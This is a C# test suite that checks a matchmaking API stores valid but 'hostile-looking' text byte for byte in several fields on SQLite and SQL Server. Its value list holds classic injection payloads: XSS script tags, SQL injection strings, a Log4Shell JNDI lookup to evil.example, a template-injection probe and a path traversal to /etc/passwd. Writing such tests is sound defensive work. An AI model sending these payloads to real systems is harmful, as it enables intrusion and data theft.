using System.Text.Json.Nodes;
using Dapper;

namespace Matchmaker.Tests.Security;

/// <summary>
/// Text that looks dangerous but is valid (markup, SQL, quotes, emoji, CJK, Cyrillic, Arabic, the longest a field
/// takes) is stored and returned exactly as sent. Control, zero-width and bidi-override characters are not valid
/// text here (names refuse them), so none appear.
/// </summary>
public abstract class HostileTextTests<TApi>(TApi api, ITestOutputHelper output) where TApi : ApiFixture
{
    public static readonly string[] Values =
    [
        "<script>alert('x')</script><img src=x onerror=alert(1)>",
        "Robert'); DROP TABLE smes;--",
        "1' OR '1'='1' -- %' UNION SELECT * FROM users --",
        "\"double\" 'single' `back` \\ backslash / slash",
        "Ala-Too & Sons <Ltd> \"Best\" ©®™ — 100% ☺",
        "🏭🚜🔧 factory",
        "青岛机械有限公司 山东省济南市",
        "Ала-Тоо Машзавод ЁЖЩ ёлка",
        "شركة الآلات الصناعية",
        "null", "undefined", "NaN", "=1+1", "${jndi:ldap://evil.example/a}", "{{7*7}}", "../../etc/passwd",
    ];

    [Fact]
    public async Task Hostile_but_valid_text_is_stored_and_returned_byte_for_byte()
    {
        var (sme, smeId) = await Create.SmeAccountAsync(api);
        var needId = await Create.NeedAsync(sme, smeId);
        var (partner, partnerId) = await Create.PartnerAccountAsync(api);
        var targets = new (Actor Owner, string Url, Func<JsonObject> Body, string[] Fields, string Table)[]
        {
            (sme, $"/api/v1/smes/{smeId}", () => Bodies.Sme(), ["name", "nameEn", "description", "contact.person"], "smes"),
            (sme, $"/api/v1/needs/{needId}", () => Bodies.Need(), ["title", "description"], "needs"),
            (partner, $"/api/v1/partners/{partnerId}", () => Bodies.Partner(), ["name", "nameZh", "nameRu", "description", "contact.person"], "partners"),
        };
        using var raw = api.App.Server.CreateClient();
        var document = new OpenApiOperations(JsonNode.Parse(await raw.GetStringAsync("/openapi/v1.json"))!);
        var bodySchemas = document.All().Where(o => o.Method == "PUT").ToDictionary(o => o.Template, o => o.BodySchema!);

        var checkedValues = 0;
        foreach (var (owner, url, body, fields, table) in targets)
        {
            var schema = bodySchemas[System.Text.RegularExpressions.Regex.Replace(url, "[0-9a-f-]{36}", "{id}")];
            foreach (var field in fields)
            {
                var maxLength = MaxLength(document, schema, field);
                var values = Values.Append(new string('Ж', maxLength)).Append(string.Concat(Enumerable.Repeat("𝕏", maxLength / 2)));
                foreach (var value in values.Select(v => v.Length > maxLength ? v[..maxLength] : v))
                {
                    var put = body();
                    Set(put, field, value);
                    var etag = (await owner.Client.GetAsync(url)).ETag();

                    var written = await Expect.StatusAsync(await owner.Client.PutAsync(url, put, etag), 200);
                    var read = await Expect.StatusAsync(await owner.Client.GetAsync(url), 200);

                    Assert.Equal(value, Get(written, field));
                    Assert.Equal(value, Get(read, field));
                    if (!field.Contains('.'))
                        Assert.Equal(value, await StoredAsync(table, Column(field), url));
                    checkedValues++;
                }
            }
        }

        output.WriteLine($"hostile valid text: {checkedValues} values over {targets.Sum(t => t.Fields.Length)} fields stored and returned byte for byte");
    }

    private async Task<string?> StoredAsync(string table, string column, string url)
    {
        await using var connection = await api.OpenDatabaseAsync();
        return await connection.ExecuteScalarAsync<string>($"SELECT {column} FROM {table} WHERE public_id = @Id", new { Id = api.KeyOf(Guid.Parse(url[^36..])) });
    }

    private static string Column(string field) => string.Concat(field.Select(c => char.IsUpper(c) ? "_" + char.ToLowerInvariant(c) : c.ToString()));

    private static int MaxLength(OpenApiOperations document, JsonObject schema, string field)
    {
        foreach (var part in field.Split('.'))
            schema = document.Resolve(schema["properties"]![part]!.AsObject());
        return schema["maxLength"]!.GetValue<int>();
    }

    private static void Set(JsonObject body, string field, string value)
    {
        var parts = field.Split('.');
        var target = parts[..^1].Aggregate((JsonNode)body, (node, part) => node[part]!);
        target[parts[^1]] = value;
    }

    private static string? Get(JsonNode body, string field) =>
        field.Split('.').Aggregate((JsonNode?)body, (node, part) => node?[part])?.GetValue<string>();
}

public sealed class HostileTextTestsOnSqlite(SqliteApi api, ITestOutputHelper output) : HostileTextTests<SqliteApi>(api, output), IClassFixture<SqliteApi>;

public sealed class HostileTextTestsOnSqlServer : HostileTextTests<SqlServerApi>, IClassFixture<SqlServerApi>
{
    public HostileTextTestsOnSqlServer(SqlServerApi api, ITestOutputHelper output) : base(api, output) => api.SkipWhenUnavailable();
}
